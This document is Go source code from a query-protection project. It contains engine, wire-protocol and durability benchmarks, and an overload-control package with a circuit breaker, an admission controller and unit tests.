			}
		}
		for i := 0; i < 100; i++ {
			if _, err := db.Exec(fmt.Sprintf("INSERT INTO r (id, v) VALUES (%d, 'v')", i)); err != nil {
				b.Fatal(err)
			}
		}
		return db
	}
	b.Run("read-only", func(b *testing.B) {
		db := setup(b)
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				if _, err := db.Exec("SELECT v FROM r WHERE id = 42"); err != nil {
					b.Fatal(err)
				}
			}
		})
	})
	b.Run("read-vs-write", func(b *testing.B) {
		db := setup(b)
		stop := make(chan struct{})
		done := make(chan struct{})
		go func() {
			defer close(done)
			for {
				select {
				case <-stop:
					return
				default:
				}
				if _, err := db.Exec("INSERT INTO w (v) VALUES ('x')"); err != nil {
					return
				}
			}
		}()
		b.ReportAllocs()
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				if _, err := db.Exec("SELECT v FROM r WHERE id = 42"); err != nil {
					b.Fatal(err)
				}
			}
		})
		b.StopTimer()
		close(stop)
		<-done
	})
}

// BenchmarkWireParallel drives the protocol server from concurrent
// client connections (one session per worker goroutine), the paper's
// many-diverse-clients deployment end to end.
func BenchmarkWireParallel(b *testing.B) {
	db, _ := hookDeployment(b, benchlab.ConfigYY)
	srv := wire.NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	defer srv.Close()
	const q = "SELECT * FROM tickets WHERE reservID = 'ZZ91AB' AND creditCard = 42"
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		c, err := wire.Dial(addr)
		if err != nil {
			b.Error(err)
			return
		}
		defer c.Close()
		for pb.Next() {
			if _, err := c.Exec(q); err != nil {
				b.Error(err)
				return
			}
		}
	})
}

// --- Wire protocol: synchronous v1 versus pipelined v2 ------------------

// benchWireSession builds the YY deployment behind a loopback wire
// server and dials one client with the given options. Each benchmark op
// is one query of the benign replay mix, so ns/op is directly
// comparable between the sync and pipelined series.
func benchWireSession(b *testing.B, opts ...wire.ClientOption) (*wire.Client, []string, func()) {
	b.Helper()
	db, workload := hookDeployment(b, benchlab.ConfigYY)
	srv := wire.NewServer(db)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		b.Fatal(err)
	}
	c, err := wire.Dial(addr, opts...)
	if err != nil {
		srv.Close()
		b.Fatal(err)
	}
	return c, workload, func() {
		c.Close()
		srv.Close()
	}
}

// BenchmarkWireSync is the baseline the pipelined protocol is measured
// against: the legacy v1 JSON protocol in strict request/response
// lockstep — every query pays a full round trip and a JSON encode/decode
// on both sides.
func BenchmarkWireSync(b *testing.B) {
	c, workload, cleanup := benchWireSession(b)
	defer cleanup()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Exec(workload[i%len(workload)]); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkWirePipelined replays the same benign mix over v2 binary
// frames with up to depth requests in flight (a ring of futures keeps
// the window full; slot i is waited on just before reuse). depth=1
// isolates the codec switch (binary frames, still lockstep); depth=16
// adds the pipelining win and is the series the ISSUE's ≥2× acceptance
// floor applies to.
func BenchmarkWirePipelined(b *testing.B) {
	for _, depth := range []int{1, 4, 16} {
		b.Run(fmt.Sprintf("depth=%d", depth), func(b *testing.B) {
			c, workload, cleanup := benchWireSession(b, wire.WithPipeline(depth))
			defer cleanup()
			ring := make([]*wire.Future, depth)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				slot := i % depth
				if ring[slot] != nil {
					if _, err := ring[slot].Wait(); err != nil {
						b.Fatal(err)
					}
					ring[slot] = nil
				}
				ring[slot] = c.Submit(workload[i%len(workload)])
			}
			for _, f := range ring {
				if f != nil {
					if _, err := f.Wait(); err != nil {
						b.Fatal(err)
					}
				}
			}
		})
	}
}

// --- Engine microbenchmarks (the substrate's own cost) ------------------

func BenchmarkEngineExec(b *testing.B) {
	db := engine.New()
	if _, err := db.Exec("CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, name TEXT, n INT)"); err != nil {
		b.Fatal(err)
	}
	for i := 0; i < 100; i++ {
		if _, err := db.Exec(fmt.Sprintf("INSERT INTO t (name, n) VALUES ('row%d', %d)", i, i)); err != nil {
			b.Fatal(err)
		}
	}
	b.Run("point-select", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := db.Exec("SELECT name FROM t WHERE id = 42"); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("aggregate", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := db.Exec("SELECT COUNT(*), AVG(n) FROM t WHERE n > 10"); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("insert", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := db.Exec("INSERT INTO t (name, n) VALUES ('bench', 1)"); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// --- Ablation: unique hash index vs full scan ---------------------------

func BenchmarkIndexVsScan(b *testing.B) {
	db := engine.New()
	if _, err := db.Exec("CREATE TABLE p (id INT PRIMARY KEY, v TEXT)"); err != nil {
		b.Fatal(err)
	}
	for i := 0; i < 10000; i++ {
		if _, err := db.Exec(fmt.Sprintf("INSERT INTO p (id, v) VALUES (%d, 'v')", i)); err != nil {
			b.Fatal(err)
		}
	}
	b.Run("indexed-point-select", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := db.Exec("SELECT v FROM p WHERE id = 9000"); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("forced-scan", func(b *testing.B) {
		// The extra AND disables the fast path without changing results.
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if _, err := db.Exec("SELECT v FROM p WHERE id = 9000 AND 1 = 1"); err != nil {
				b.Fatal(err)
			}
		}
	})
	next := 100000 // survives b.N ramp-up re-invocations
	b.Run("indexed-insert", func(b *testing.B) {
		// Uniqueness checks ride the index: throughput stays flat as the
		// table grows.
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			q := fmt.Sprintf("INSERT INTO p (id, v) VALUES (%d, 'w')", next)
			next++
			if _, err := db.Exec(q); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func BenchmarkParse(b *testing.B) {
	const q = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := sqlparser.Parse(q); err != nil {
			b.Fatal(err)
		}
	}
}

// --- Durability ablation: WAL fsync policy vs training throughput -----

// BenchmarkTrainDurable measures the cost a write-ahead log adds to one
// acknowledged training update (a Store.Put of a new model) at each
// fsync policy, against the no-WAL baseline. Every iteration stores a
// distinct identifier so every Put appends one WAL record; with
// fsync=always each iteration also pays one fsync — that sub-benchmark
// is the price of the "no acknowledged update is ever lost" guarantee.
func BenchmarkTrainDurable(b *testing.B) {
	stmt, err := sqlparser.Parse("SELECT a FROM t WHERE b = 1")
	if err != nil {
		b.Fatal(err)
	}
	model := qstruct.ModelOf(qstruct.BuildStack(stmt))

	run := func(b *testing.B, policy string) {
		guard := core.New(core.Config{Mode: core.ModeTraining},
			core.WithLogger(core.NewLogger(core.WithCheckedSampling(0))),
			core.WithVerdictCacheCapacity(0))
		if policy != "off" {
			fp, err := wal.ParseFsyncPolicy(policy)
			if err != nil {
				b.Fatal(err)
			}
			persist, err := guard.AttachPersistence(core.PersistenceOptions{
				Dir: b.TempDir(), Fsync: fp,
			})
			if err != nil {
				b.Fatal(err)
			}
			defer persist.Close()
		}
		dom, _ := guard.Domain(core.DefaultDomain)
		store := dom.Store()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if !store.Put(fmt.Sprintf("q%09d", i), model, false) {
				b.Fatalf("put %d refused: durability sink failed", i)
			}
		}
	}
	for _, policy := range benchlab.DurabilityPolicies() {
		b.Run(policy, func(b *testing.B) { run(b, policy) })
	}
}
