// Package overload implements adaptive overload control for the
// protected server: latency-aware admission (admission.go), per-domain
// token-bucket quotas (quota.go), and a circuit breaker around the
// detection pipeline (breaker.go).
//
// The three mechanisms answer different failure modes and compose in a
// fixed order on the wire hot path:
//
//	quota -> admission -> execution gate -> detection (breaker inside)
//
// Quota runs first so a flooded tenant is rejected before it occupies
// shared queue slots — its excess never inflates the sojourn other
// domains' requests observe. Admission then bounds the shared queue
// delay for whatever the quotas let through. The breaker lives deepest,
// around the detection pipeline itself in core, and converts a failing
// detector into a per-domain brownout instead of a latency storm.
//
// Every type in this package is nil-safe: a nil *Admission admits
// everything, a nil *Quota never rejects, a nil *Breaker always allows.
// Callers thread optional controls without branching on configuration.
// The package depends only on the standard library so both core and
// wire can import it without cycles.
package overload

import (
	"sync/atomic"
	"time"
)

// Controls bundles the per-domain overload mechanisms. One Controls
// value is shared between the core Domain (which reports its counters
// in Stats) and the wire server (which enforces and counts), so both
// layers observe the same numbers. The zero value (and nil) disables
// everything.
type Controls struct {
	// Quota is the domain's token-bucket + in-flight limit, nil when the
	// domain is unmetered.
	Quota *Quota
	// Breaker guards the domain's detection pipeline, nil when the
	// domain never browns out.
	Breaker *Breaker

	// shed counts admission-controller sheds billed to this domain: the
	// request passed its quota but the shared queue was over target.
	shed atomic.Int64
}

// NewControls bundles a quota and breaker; either may be nil.
func NewControls(q *Quota, b *Breaker) *Controls {
	return &Controls{Quota: q, Breaker: b}
}

// NoteShed bills one admission shed to the domain.
func (c *Controls) NoteShed() {
	if c != nil {
		c.shed.Add(1)
	}
}

// Sheds reports admission sheds billed to the domain.
func (c *Controls) Sheds() int64 {
	if c == nil {
		return 0
	}
	return c.shed.Load()
}

// QuotaRejected reports requests the domain's quota refused.
func (c *Controls) QuotaRejected() int64 {
	if c == nil {
		return 0
	}
	return c.Quota.Rejected()
}

// BreakerTrips reports how many times the domain's breaker opened.
func (c *Controls) BreakerTrips() int64 {
	if c == nil {
		return 0
	}
	return c.Breaker.Trips()
}

// retryAfterFloor is the minimum hint handed to shed clients: retrying
// sooner than this cannot help (the queue cannot drain meaningfully in
// under a millisecond) and synchronized sub-millisecond retries are
// exactly the herd the hint exists to prevent.
const retryAfterFloor = time.Millisecond

// retryAfterCeil caps the hint: even a deeply backlogged server drains
// eventually, and a stale multi-minute hint would park clients long
// after recovery.
const retryAfterCeil = 5 * time.Second

// clampRetryAfter bounds a computed retry hint to a sane window.
func clampRetryAfter(d time.Duration) time.Duration {
	if d < retryAfterFloor {
		return retryAfterFloor
	}
	if d > retryAfterCeil {
		return retryAfterCeil
	}
	return d
}
