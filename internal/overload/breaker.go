package overload

import (
	"sync"
	"sync/atomic"
	"time"
)

// State is a circuit breaker state.
type State int32

const (
	// Closed: detection runs normally; outcomes feed the rolling window.
	Closed State = iota
	// Open: detection is browned out; callers apply the domain's
	// fail-open/fail-closed stance instead of running the pipeline.
	Open
	// HalfOpen: the cooldown elapsed; a bounded number of probe
	// requests run detection for real to test recovery.
	HalfOpen
)

// String names the state for logs and gauges.
func (s State) String() string {
	switch s {
	case Closed:
		return "closed"
	case Open:
		return "open"
	case HalfOpen:
		return "half-open"
	default:
		return "unknown"
	}
}

// BreakerOptions configures a circuit breaker. Zero fields take the
// documented defaults.
type BreakerOptions struct {
	// Window is the rolling window over which the failure rate is
	// measured. Defaults to 10s.
	Window time.Duration
	// Buckets is how many slices the window is divided into; more
	// buckets age out old outcomes more smoothly. Defaults to 10.
	Buckets int
	// FailureRate in [0,1] trips the breaker when the windowed share of
	// failures reaches it. Defaults to 0.5.
	FailureRate float64
	// MinSamples is the minimum windowed outcome count before the rate
	// is trusted — a single failure on a quiet domain must not trip.
	// Defaults to 20.
	MinSamples int64
	// Cooldown is how long an open breaker waits before letting
	// half-open probes through. Defaults to 5s.
	Cooldown time.Duration
	// SlowCall, when > 0, counts successful calls slower than this as
	// failures (a timing-out detector is as harmful as a failing one).
	SlowCall time.Duration
	// HalfOpenProbes is how many concurrent probes half-open admits.
	// Defaults to 1.
	HalfOpenProbes int
}

// Breaker is a circuit breaker around the detection pipeline of one
// protection domain: it measures the rolling-window failure (and
// slow-call) rate of guarded calls, opens when the rate trips, and
// recovers through half-open probes. While open the domain is in
// brownout — core serves verdict-cache hits as usual and applies the
// domain's fail-open/fail-closed stance to misses.
//
// Allow on a closed breaker is one atomic load, so an armed-but-healthy
// breaker adds no measurable cost to the detection path. Methods are
// safe for concurrent use and nil-safe.
type Breaker struct {
	opts  BreakerOptions
	slice time.Duration // window / buckets

	state    atomic.Int32
	trips    atomic.Int64
	openedAt atomic.Int64 // UnixNano of the last trip
	probes   atomic.Int64 // remaining half-open probe budget

	onChange atomic.Pointer[func(from, to State)]

	mu      sync.Mutex
	buckets []breakerBucket

	now func() time.Time // injectable clock for tests
}

// breakerBucket is one window slice, tagged with the epoch (absolute
// slice index) it belongs to so stale buckets age out lazily.
type breakerBucket struct {
	epoch      int64
	succ, fail int64
}

// NewBreaker builds a breaker; zero option fields take defaults.
func NewBreaker(opts BreakerOptions) *Breaker {
	if opts.Window <= 0 {
		opts.Window = 10 * time.Second
	}
	if opts.Buckets <= 0 {
		opts.Buckets = 10
	}
	if opts.FailureRate <= 0 || opts.FailureRate > 1 {
		opts.FailureRate = 0.5
	}
	if opts.MinSamples <= 0 {
		opts.MinSamples = 20
	}
	if opts.Cooldown <= 0 {
		opts.Cooldown = 5 * time.Second
	}
	if opts.HalfOpenProbes <= 0 {
		opts.HalfOpenProbes = 1
	}
	return &Breaker{
		opts:    opts,
		slice:   opts.Window / time.Duration(opts.Buckets),
		buckets: make([]breakerBucket, opts.Buckets),
		now:     time.Now,
	}
}

// OnStateChange installs a transition callback, invoked outside the
// breaker's locks as (from, to). Core uses it to log brownout entry and
// recovery without the breaker depending on any logging layer.
func (b *Breaker) OnStateChange(f func(from, to State)) {
	if b == nil {
		return
	}
	b.onChange.Store(&f)
}

func (b *Breaker) notify(from, to State) {
	if f := b.onChange.Load(); f != nil {
		(*f)(from, to)
	}
}

// Allow reports whether a guarded call may run detection. Closed is one
// atomic load. Open flips to half-open once the cooldown elapses; in
// half-open a bounded probe budget is handed out. A true return MUST be
// followed by RecordResult for the call.
func (b *Breaker) Allow() bool {
	if b == nil {
		return true
	}
	switch State(b.state.Load()) {
	case Closed:
		return true
	case Open:
		if b.now().UnixNano()-b.openedAt.Load() < int64(b.opts.Cooldown) {
			return false
		}
		if b.state.CompareAndSwap(int32(Open), int32(HalfOpen)) {
			b.probes.Store(int64(b.opts.HalfOpenProbes))
			b.notify(Open, HalfOpen)
		}
		return b.takeProbe()
	default:
		return b.takeProbe()
	}
}

// takeProbe claims one half-open probe slot.
func (b *Breaker) takeProbe() bool {
	if State(b.state.Load()) != HalfOpen {
		// Raced with a transition; closed admits, open refuses.
		return State(b.state.Load()) == Closed
	}
	if b.probes.Add(-1) >= 0 {
		return true
	}
	b.probes.Add(1) // undo: keep the budget from drifting unboundedly
	return false
}

// RecordResult reports the outcome of a guarded call admitted by Allow.
// A successful call slower than SlowCall counts as a failure. In
// half-open, one failed probe re-opens and one successful probe closes;
// in closed, outcomes roll into the window and a failure may trip.
func (b *Breaker) RecordResult(failed bool, elapsed time.Duration) {
	if b == nil {
		return
	}
	if !failed && b.opts.SlowCall > 0 && elapsed > b.opts.SlowCall {
		failed = true
	}
	switch State(b.state.Load()) {
	case HalfOpen:
		if failed {
			b.trip(HalfOpen)
			return
		}
		if b.state.CompareAndSwap(int32(HalfOpen), int32(Closed)) {
			b.resetWindow()
			b.notify(HalfOpen, Closed)
		}
	case Open:
		// A straggler from before the trip; its outcome is stale.
	default:
		now := b.now()
		b.mu.Lock()
		bk := b.rotateLocked(now)
		if failed {
			bk.fail++
		} else {
			bk.succ++
		}
		trip := false
		if failed {
			succ, fail := b.sumLocked(now)
			total := succ + fail
			trip = total >= b.opts.MinSamples &&
				float64(fail) >= b.opts.FailureRate*float64(total)
		}
		b.mu.Unlock()
		if trip {
			b.trip(Closed)
		}
	}
}

// trip moves from -> Open, stamping the cooldown clock.
func (b *Breaker) trip(from State) {
	if b.state.CompareAndSwap(int32(from), int32(Open)) {
		b.openedAt.Store(b.now().UnixNano())
		b.trips.Add(1)
		b.notify(from, Open)
	}
}

// rotateLocked returns the live bucket for now, resetting it if it
// still holds counts from a previous pass over the ring.
func (b *Breaker) rotateLocked(now time.Time) *breakerBucket {
	epoch := now.UnixNano() / int64(b.slice)
	bk := &b.buckets[epoch%int64(len(b.buckets))]
	if bk.epoch != epoch {
		bk.epoch = epoch
		bk.succ, bk.fail = 0, 0
	}
	return bk
}

// sumLocked totals the buckets still inside the window.
func (b *Breaker) sumLocked(now time.Time) (succ, fail int64) {
	epoch := now.UnixNano() / int64(b.slice)
	oldest := epoch - int64(len(b.buckets)) + 1
	for i := range b.buckets {
		if bk := &b.buckets[i]; bk.epoch >= oldest {
			succ += bk.succ
			fail += bk.fail
		}
	}
	return succ, fail
}

// resetWindow clears the rolling window after a recovery, so the
// failures that caused the trip cannot immediately re-trip.
func (b *Breaker) resetWindow() {
	b.mu.Lock()
	for i := range b.buckets {
		b.buckets[i] = breakerBucket{}
	}
	b.mu.Unlock()
}

// State reports the current state.
func (b *Breaker) State() State {
	if b == nil {
		return Closed
	}
	return State(b.state.Load())
}

// Trips reports how many times the breaker has opened.
func (b *Breaker) Trips() int64 {
	if b == nil {
		return 0
	}
	return b.trips.Load()
}
