package overload

import (
	"sync"
	"sync/atomic"
	"time"
)

// AdmissionOptions configures the latency-aware admission controller.
type AdmissionOptions struct {
	// Target is the queue-delay budget: when the estimated time a new
	// arrival would wait for an execution slot exceeds it, the arrival
	// is shed. Defaults to 5ms.
	Target time.Duration
	// Interval is the CoDel-style persistence window: measured sojourns
	// must stay above Target for a full Interval before the controller
	// enters its sticky shedding state (which halves the admission bound
	// until a sojourn dips back under Target). Defaults to 100ms.
	Interval time.Duration
	// Capacity is the number of requests the server executes
	// concurrently behind the admission queue — the denominator of the
	// queue-delay estimate, and the size the server gives its execution
	// gate. Defaults to 4.
	Capacity int
}

// Admission is a latency-aware admission controller in the CoDel
// family: it tracks how long admitted work actually waits for an
// execution slot (the sojourn) and sheds the newest arrivals when the
// queue delay exceeds a target.
//
// Two signals combine:
//
//   - A queue-delay estimate, depth x EWMA(service time) / capacity,
//     checked at every arrival. This bounds admitted queueing delay by
//     construction: an arrival that would wait longer than Target is
//     shed immediately, so admitted latency stays near Target + one
//     service time even at many multiples of capacity.
//   - A CoDel-style persistence detector fed by measured sojourns: when
//     sojourns stay above Target for a full Interval the controller
//     enters a sticky shedding state that halves the admission bound,
//     draining the standing queue instead of hovering at the limit. One
//     sojourn back under Target clears it.
//
// Shed work must be answered with a typed response carrying the
// RetryAfter hint — never silently dropped (the client contract in
// wire depends on it). All methods are safe for concurrent use and
// nil-safe.
type Admission struct {
	targetNS int64
	interval time.Duration
	capacity int64

	depth    atomic.Int64 // admitted, not yet completed
	ewmaNS   atomic.Int64 // smoothed per-request service time
	shedding atomic.Bool  // sticky CoDel state
	above    atomic.Bool  // a sojourn streak above target is running
	sheds    atomic.Int64

	mu         sync.Mutex // guards firstAbove
	firstAbove time.Time

	now func() time.Time // injectable clock for tests
}

// NewAdmission builds an admission controller; zero option fields take
// the documented defaults.
func NewAdmission(opts AdmissionOptions) *Admission {
	if opts.Target <= 0 {
		opts.Target = 5 * time.Millisecond
	}
	if opts.Interval <= 0 {
		opts.Interval = 100 * time.Millisecond
	}
	if opts.Capacity <= 0 {
		opts.Capacity = 4
	}
	return &Admission{
		targetNS: opts.Target.Nanoseconds(),
		interval: opts.Interval,
		capacity: int64(opts.Capacity),
		now:      time.Now,
	}
}

// Arrive decides one arrival. Admitted work MUST later call Done (or
// Cancel if it never reaches execution); shed work must not. On a shed,
// retryAfter is the backoff hint to relay to the client.
func (a *Admission) Arrive() (admit bool, retryAfter time.Duration) {
	if a == nil {
		return true, 0
	}
	est := a.depth.Load() * a.ewmaNS.Load() / a.capacity
	limit := a.targetNS
	if a.shedding.Load() {
		// Sticky state: shed down to half the budget so the standing
		// queue actually drains rather than oscillating at the limit.
		limit /= 2
	}
	if est > limit {
		a.sheds.Add(1)
		// Hint: the time for the estimated excess to drain, floored at
		// the persistence interval so a herd of shed clients spreads
		// out over at least one control period.
		hint := time.Duration(est - limit)
		if hint < a.interval {
			hint = a.interval
		}
		return false, clampRetryAfter(hint)
	}
	a.depth.Add(1)
	return true, 0
}

// Done completes one admitted request: sojourn is the time it waited
// for an execution slot, service the time it spent executing.
func (a *Admission) Done(sojourn, service time.Duration) {
	if a == nil {
		return
	}
	a.depth.Add(-1)
	s := service.Nanoseconds()
	if s < 0 {
		s = 0
	}
	// EWMA with alpha 1/8; seeded by the first sample so the controller
	// is live from the first completion instead of warming up from zero.
	for {
		old := a.ewmaNS.Load()
		next := s
		if old != 0 {
			next = old + (s-old)/8
		}
		if a.ewmaNS.CompareAndSwap(old, next) {
			break
		}
	}
	a.observe(sojourn)
}

// Cancel abandons one admitted request that never reached execution
// (server shutdown between admission and dispatch).
func (a *Admission) Cancel() {
	if a == nil {
		return
	}
	a.depth.Add(-1)
}

// observe feeds one measured sojourn to the persistence detector. The
// healthy path — below target, no streak running — is two atomic loads
// and no lock.
func (a *Admission) observe(sojourn time.Duration) {
	below := sojourn.Nanoseconds() < a.targetNS
	if below && !a.above.Load() && !a.shedding.Load() {
		return
	}
	now := a.now()
	a.mu.Lock()
	defer a.mu.Unlock()
	if below {
		a.firstAbove = time.Time{}
		a.above.Store(false)
		a.shedding.Store(false)
		return
	}
	if a.firstAbove.IsZero() {
		a.firstAbove = now
		a.above.Store(true)
		return
	}
	if now.Sub(a.firstAbove) >= a.interval {
		a.shedding.Store(true)
	}
}

// Capacity is the concurrency the controller assumes behind the queue;
// the server sizes its execution gate with it.
func (a *Admission) Capacity() int {
	if a == nil {
		return 0
	}
	return int(a.capacity)
}

// Depth reports requests admitted and not yet completed.
func (a *Admission) Depth() int64 {
	if a == nil {
		return 0
	}
	return a.depth.Load()
}

// Sheds reports the total arrivals shed.
func (a *Admission) Sheds() int64 {
	if a == nil {
		return 0
	}
	return a.sheds.Load()
}

// Shedding reports whether the sticky persistence state is active — the
// signal /healthz uses to fail readiness while overloaded.
func (a *Admission) Shedding() bool {
	if a == nil {
		return false
	}
	return a.shedding.Load()
}

// EstimatedDelay is the current queue-delay estimate a new arrival
// would face (exported as a gauge).
func (a *Admission) EstimatedDelay() time.Duration {
	if a == nil {
		return 0
	}
	return time.Duration(a.depth.Load() * a.ewmaNS.Load() / a.capacity)
}
