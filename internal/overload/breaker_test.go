package overload

import (
	"sync"
	"testing"
	"time"
)

func TestBreakerNilSafe(t *testing.T) {
	var b *Breaker
	if !b.Allow() {
		t.Fatal("nil breaker must allow")
	}
	b.RecordResult(true, 0)
	b.OnStateChange(func(State, State) {})
	if b.State() != Closed || b.Trips() != 0 {
		t.Fatal("nil accessors must be zero")
	}
}

// newTestBreaker builds a breaker with a fake clock and small windows
// so the state machine can be exercised deterministically.
func newTestBreaker(clk *fakeClock, opts BreakerOptions) *Breaker {
	b := NewBreaker(opts)
	b.now = clk.now
	return b
}

// TestBreakerStateMachine is the trip / half-open / recover table test:
// each case is a script of steps driving one breaker through the
// machine with a manual clock, asserting the state after every step.
func TestBreakerStateMachine(t *testing.T) {
	const (
		opFail    = "fail"    // Allow (must admit) + RecordResult(failed)
		opSucceed = "succeed" // Allow (must admit) + RecordResult(ok)
		opRefused = "refused" // Allow must refuse
		opSlow    = "slow"    // Allow + RecordResult(ok, above SlowCall)
	)
	type step struct {
		op      string
		advance time.Duration // clock advance before the op
		want    State         // state after the op
	}
	opts := BreakerOptions{
		Window:      time.Second,
		Buckets:     4,
		FailureRate: 0.5,
		MinSamples:  4,
		Cooldown:    500 * time.Millisecond,
		SlowCall:    50 * time.Millisecond,
	}
	cases := []struct {
		name  string
		steps []step
	}{
		{"trips at failure rate over min samples", []step{
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Closed}, // 3 samples < MinSamples: no trip
			{op: opFail, want: Open},   // 4/4 failed >= 50%
			{op: opRefused, want: Open},
		}},
		{"failure rate below threshold stays closed", []step{
			{op: opSucceed, want: Closed},
			{op: opSucceed, want: Closed},
			{op: opSucceed, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Closed}, // 2/5 = 40% < 50%
		}},
		{"slow calls count as failures", []step{
			{op: opSlow, want: Closed},
			{op: opSlow, want: Closed},
			{op: opSlow, want: Closed},
			{op: opSlow, want: Open},
		}},
		{"half-open probe failure re-opens", []step{
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Open},
			{op: opRefused, advance: 100 * time.Millisecond, want: Open},
			{op: opFail, advance: 500 * time.Millisecond, want: Open}, // probe fails
			{op: opRefused, want: Open},                               // cooldown restarted
		}},
		{"half-open probe success recovers", []step{
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Open},
			{op: opSucceed, advance: 600 * time.Millisecond, want: Closed},
			// The window was reset on recovery: the old failures are
			// gone, one new failure cannot re-trip.
			{op: opFail, want: Closed},
		}},
		{"old outcomes age out of the window", []step{
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			{op: opFail, want: Closed},
			// 1.5 windows later the three failures have aged out; the
			// fourth failure alone is below MinSamples.
			{op: opFail, advance: 1500 * time.Millisecond, want: Closed},
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			clk := newFakeClock()
			b := newTestBreaker(clk, opts)
			for i, st := range tc.steps {
				clk.advance(st.advance)
				switch st.op {
				case opRefused:
					if b.Allow() {
						t.Fatalf("step %d: Allow = true, want refused", i)
					}
				case opFail, opSucceed, opSlow:
					if !b.Allow() {
						t.Fatalf("step %d: Allow = false, want admitted", i)
					}
					switch st.op {
					case opFail:
						b.RecordResult(true, 0)
					case opSucceed:
						b.RecordResult(false, time.Millisecond)
					case opSlow:
						b.RecordResult(false, 100*time.Millisecond)
					}
				}
				if got := b.State(); got != st.want {
					t.Fatalf("step %d (%s): state = %v, want %v", i, st.op, got, st.want)
				}
			}
		})
	}
}

// TestBreakerHalfOpenProbeBudget checks half-open hands out exactly the
// configured number of probes until one resolves.
func TestBreakerHalfOpenProbeBudget(t *testing.T) {
	clk := newFakeClock()
	b := newTestBreaker(clk, BreakerOptions{
		MinSamples: 1, FailureRate: 0.5, Cooldown: time.Second, HalfOpenProbes: 2,
	})
	b.Allow()
	b.RecordResult(true, 0)
	if b.State() != Open {
		t.Fatal("breaker did not trip")
	}
	clk.advance(2 * time.Second)
	if !b.Allow() || !b.Allow() {
		t.Fatal("half-open must admit the probe budget")
	}
	if b.Allow() {
		t.Fatal("half-open must refuse past the probe budget")
	}
	b.RecordResult(false, 0)
	if b.State() != Closed {
		t.Fatal("successful probe must close the breaker")
	}
}

func TestBreakerTripsCounterAndCallback(t *testing.T) {
	clk := newFakeClock()
	b := newTestBreaker(clk, BreakerOptions{
		MinSamples: 1, FailureRate: 0.5, Cooldown: 100 * time.Millisecond,
	})
	var mu sync.Mutex
	var transitions []string
	b.OnStateChange(func(from, to State) {
		mu.Lock()
		transitions = append(transitions, from.String()+">"+to.String())
		mu.Unlock()
	})
	b.Allow()
	b.RecordResult(true, 0) // trip 1
	clk.advance(200 * time.Millisecond)
	b.Allow()               // open -> half-open
	b.RecordResult(true, 0) // probe fails: trip 2
	clk.advance(200 * time.Millisecond)
	b.Allow()
	b.RecordResult(false, 0) // probe succeeds: recovered
	if b.Trips() != 2 {
		t.Fatalf("trips = %d, want 2", b.Trips())
	}
	want := []string{"closed>open", "open>half-open", "half-open>open",
		"open>half-open", "half-open>closed"}
	mu.Lock()
	defer mu.Unlock()
	if len(transitions) != len(want) {
		t.Fatalf("transitions = %v, want %v", transitions, want)
	}
	for i := range want {
		if transitions[i] != want[i] {
			t.Fatalf("transition %d = %s, want %s", i, transitions[i], want[i])
		}
	}
}

// TestChaosBreakerConcurrent hammers one breaker from many goroutines
// through repeated trip/recover cycles; the race detector checks the
// synchronization and the invariants check the bookkeeping.
func TestChaosBreakerConcurrent(t *testing.T) {
	b := NewBreaker(BreakerOptions{
		Window: 50 * time.Millisecond, Buckets: 5,
		MinSamples: 10, FailureRate: 0.5,
		Cooldown: time.Millisecond, HalfOpenProbes: 2,
	})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(seed int) {
			defer wg.Done()
			for i := 0; i < 5000; i++ {
				if b.Allow() {
					b.RecordResult((i+seed)%3 == 0, time.Duration(i%2)*time.Millisecond)
				}
			}
		}(g)
	}
	wg.Wait()
	if st := b.State(); st != Closed && st != Open && st != HalfOpen {
		t.Fatalf("invalid state %v", st)
	}
	if b.Trips() < 0 {
		t.Fatal("negative trips")
	}
}
