package overload

import (
	"sync"
	"testing"
	"time"
)

// fakeClock is a manually advanced clock for deterministic control-law
// tests.
type fakeClock struct {
	mu sync.Mutex
	t  time.Time
}

func newFakeClock() *fakeClock {
	return &fakeClock{t: time.Unix(1000, 0)}
}

func (c *fakeClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) advance(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

func TestAdmissionNilSafe(t *testing.T) {
	var a *Admission
	if ok, _ := a.Arrive(); !ok {
		t.Fatal("nil admission must admit")
	}
	a.Done(time.Second, time.Second)
	a.Cancel()
